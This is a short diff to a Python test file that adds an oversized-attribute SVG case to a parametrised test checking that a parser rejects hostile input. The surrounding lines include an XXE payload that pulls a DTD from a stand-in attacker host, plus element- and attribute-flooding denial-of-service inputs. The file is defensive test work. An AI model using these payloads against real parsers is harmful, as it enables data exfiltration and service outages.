@@ -101,6 +101,7 @@ def test_what_is_broken_or_hostile_is_refused_by_name(code: str) -> None:
         b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]><svg/>',
         '<?xml version="1.0" encoding="UTF-16"?><svg/>'.encode("utf-16"),
         b"<svg>" + b"<g/>" * 60_000 + b"</svg>",
+        b"<svg " + b" ".join(b'a%d="x"' % n for n in range(1_100)) + b"/>",
         b"<svg " + b" ".join(b'a%d="x"' % n for n in range(50)),
         b"\xff\xfe<svg/>",
         b"<svg>\x00</svg>",
